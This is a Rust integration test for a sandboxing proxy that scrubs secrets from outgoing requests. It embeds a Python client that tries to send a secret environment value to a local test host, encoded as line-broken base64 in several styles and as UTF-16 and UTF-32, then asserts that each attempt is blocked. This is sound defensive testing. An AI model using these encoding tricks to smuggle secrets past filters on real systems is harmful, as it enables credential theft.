//! A real value that code inside holds (passed in by mistake) leaving
//! towards a host that is not its own in the forms the response scrub
//! reads: base64 broken across lines (MIME's CRLF, PEM inside YAML, a
//! JSON string's escaped line breaks, groups set apart by spaces; the
//! sandbox choosing where the value falls against each break), and
//! UTF-16 and UTF-32. A secret's real
//! value goes out only where the proxy put it in for its own host; here
//! each request must be refused or cut before the value leaves, through a
//! real sandbox to a real raw server.

use super::*;

const OTHER: &str = "other.secret.test";

/// (name, width, what stands between lines, inside a JSON string).
const OUT_BREAKS: [(&str, usize, &str, bool); 5] = [
    ("mime", 76, "\r\n", false),
    ("yaml", 64, "\n      ", false),
    ("json", 60, "\\n", true),
    ("groups", 4, " ", false),
    ("narrow", 3, "\r\n\r\n", false),
];

/// The wide encodings the response scrub reads a value in, as Python
/// names them.
const WIDE: [&str; 4] = ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"];

/// A client inside the sandbox that POSTs to `HOST`, for each break and
/// each pad, `$LEAKED` after the pad's bytes, base64 broken as the break
/// says, then `$LEAKED` in each [`WIDE`] encoding; it prints each
/// answer's status line after a `=== N` line.
fn leaking_client(port: u16, pads: &[usize]) -> String {
    let breaks: Vec<String> = OUT_BREAKS
        .iter()
        .map(|(_, w, sep, json)| {
            format!("({w}, {sep:?}, {})", if *json { "True" } else { "False" })
        })
        .collect();
    format!(
        r#"python3 - <<'PY'
import base64, os, socket, ssl
ctx = ssl.create_default_context()
i = 0
for width, sep, js in [{breaks}]:
    for pad in {pads:?}:
        data = ("A" * pad + os.environ["LEAKED"] + "!tail").encode()
        enc = base64.b64encode(data).decode()
        broken = sep.join(enc[k:k + width] for k in range(0, len(enc), width))
        body = ('{{"content":"%s"}}' % broken) if js else broken
        r = "POST /store HTTP/1.1\r\nHost: {HOST}:{port}\r\nContent-Type: text/plain\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(body), body)
        s = ctx.wrap_socket(socket.create_connection(("{HOST}", {port})), server_hostname="{HOST}")
        s.sendall(r.encode())
        data = b""
        s.settimeout(20)
        try:
            while True:
                b = s.recv(65536)
                if not b:
                    break
                data += b
        except Exception:
            pass
        print("=== %d" % i)
        print(data.decode("latin-1").split("\r\n")[0])
        i += 1
for enc in {wide:?}:
    body = ("A" + os.environ["LEAKED"] + "!tail").encode(enc)
    r = "POST /store HTTP/1.1\r\nHost: {HOST}:{port}\r\nContent-Type: text/plain; charset=%s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % (enc, len(body))
    s = ctx.wrap_socket(socket.create_connection(("{HOST}", {port})), server_hostname="{HOST}")
    s.sendall(r.encode() + body)
    data = b""
    s.settimeout(20)
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            data += b
    except Exception:
        pass
    print("=== %d" % i)
    print(data.decode("latin-1").split("\r\n")[0])
    i += 1
PY
"#,
        wide = WIDE,
        breaks = breaks.join(", ")
    )
}

/// What a reader that skips blank space and JSON's escapes of it decodes
/// from `body`, as far as it is whole.
fn decoded_as_far_as_whole(body: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(body)
        .replace("{\"content\":\"", "")
        .replace("\\r", "")
        .replace("\\n", "")
        .replace(['"', '}'], "");
    let chars: String = text.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    let whole = &chars[..chars.len() / 4 * 4];
    base64::engine::general_purpose::STANDARD
        .decode(whole)
        .unwrap_or_default()
}

#[test]
fn a_real_value_never_leaves_towards_another_host_as_broken_base64_or_in_a_wide_encoding() {
    if !raw_client_runs() {
        return;
    }
    let ca = TestCa::new();
    let up = RawUpstream::start(&ca, &[HOST], |_| {
        vec![b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nstored\n".to_vec()]
    });
    let port = up.port;
    let value = format!("sk-live-{}", token());
    let pads = [0, 1, 2, 29, 40];
    // TOKEN makes HOST a terminated secret's host; LEAK's own host is
    // OTHER, and its real value is known inside only because the test
    // passes it in with --env (as a person might by mistake).
    let out = Command::new(warden_bin())
        .args(["run", "--no-tty", "--secret"])
        .arg(format!("TOKEN@{HOST}:{port}"))
        .arg("--secret")
        .arg(format!("LEAK=env:LEAKED_SOURCE@{OTHER}:{port}"))
        .args(["--add-host", &format!("{HOST}=127.0.0.1")])
        .args(["--upstream-ca", &ca.pem_path()])
        .args(["--env", &format!("LEAKED={value}")])
        .args(["--", "sh", "-c", &leaking_client(port, &pads)])
        .env("TOKEN", format!("ghp_{}", unique("own").replace('-', "x")))
        .env("LEAKED_SOURCE", &value)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let s = ok(&out);
    let broken = OUT_BREAKS.len() * pads.len();
    for i in 0..broken + WIDE.len() {
        let what = match i.checked_sub(broken) {
            None => format!(
                "{}, {} before the value",
                OUT_BREAKS[i / pads.len()].0,
                pads[i % pads.len()]
            ),
            Some(w) => WIDE[w].to_string(),
        };
        let status = section(&s, i);
        // Refused whole, or cut where the value starts (its head may
        // have gone, the value never).
        assert!(
            status.starts_with("HTTP/1.1 403") || status.starts_with("HTTP/1.1 502"),
            "{what}: it left: {status}\n{}",
            stderr(&out)
        );
    }
    let wide: Vec<Vec<u8>> = vec![
        value.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        value.encode_utf16().flat_map(u16::to_be_bytes).collect(),
        value
            .chars()
            .flat_map(|c| u32::from(c).to_le_bytes())
            .collect(),
        value
            .chars()
            .flat_map(|c| u32::from(c).to_be_bytes())
            .collect(),
    ];
    for r in up.requests() {
        let data = decoded_as_far_as_whole(&r.body);
        assert!(
            !String::from_utf8_lossy(&data).contains(&value)
                && !wide.iter().any(|w| r.body.windows(w.len()).any(|x| x == w)),
            "the value reached {HOST}: {}",
            String::from_utf8_lossy(&r.body)
        );
    }
}
